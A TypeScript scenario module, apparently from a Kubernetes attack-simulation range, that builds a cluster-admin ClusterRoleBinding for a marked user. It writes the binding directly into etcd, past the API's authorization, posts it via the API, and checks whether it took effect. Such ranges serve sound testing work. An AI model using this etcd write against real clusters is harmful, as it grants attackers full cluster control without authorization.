/** A right that an attacker grants itself where no authorizer looks: straight in the store. */
import type { Loot, World } from '../attacker/world.ts'
import type { Operator } from '../cluster/operator.ts'
import { StatusError } from '../kube/client.ts'
import type { KubeObject } from '../kube/object.ts'
import type { Staged } from './scenario.ts'

/** kube-apiserver serves an object that lies in etcd as JSON (recorded), whoever wrote it. */
export function clusterAdminBinding(mark: string): { key: string; value: string; object: object } {
  const name = bindingName(mark)
  const binding = {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'ClusterRoleBinding',
    metadata: { name, uid: '00000000-0000-4000-8000-000000000000', creationTimestamp: '2026-01-01T00:00:00Z' },
    subjects: [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: mark }],
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
  }
  return { key: `/registry/clusterrolebindings/${name}`, value: JSON.stringify(binding), object: binding }
}

/** Writes the binding into the store, past everything that would ask whether it may. */
export async function putClusterAdminBinding(world: World): Promise<Loot> {
  const { key, value } = clusterAdminBinding(world.mark)
  const etcd = await world.etcd(world.network.etcd[0] ?? '')
  await etcd.put(key, value)
  return []
}

/** Asks the API for the binding. */
export async function postClusterAdminBinding(world: World): Promise<Loot> {
  const path = '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings'
  return [(await world.api({ method: 'POST', path, body: clusterAdminBinding(world.mark).object })).body]
}

/** Whether the API serves the binding as an administrator sees it. */
export async function isBound(operator: Operator, _staged: Staged, mark: string): Promise<boolean> {
  const path = `/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/${bindingName(mark)}`
  const binding = (await readable(operator, path)) as { subjects?: { name?: string }[] } | undefined
  return binding?.subjects?.some(({ name }) => name === mark) ?? false
}

/** The object, or undefined where there is none that the API can read: nobody is given what it cannot. */
async function readable(operator: Operator, path: string): Promise<KubeObject | undefined> {
  return operator.find(path).catch((error: unknown) => {
    if (error instanceof StatusError && error.status === 500) return undefined
    throw error
  })
}

/** Object names are lower case; the mark itself stands in the subject. */
function bindingName(mark: string): string {
  return `range-${Buffer.from(mark).toString('hex').slice(0, 40)}`
}
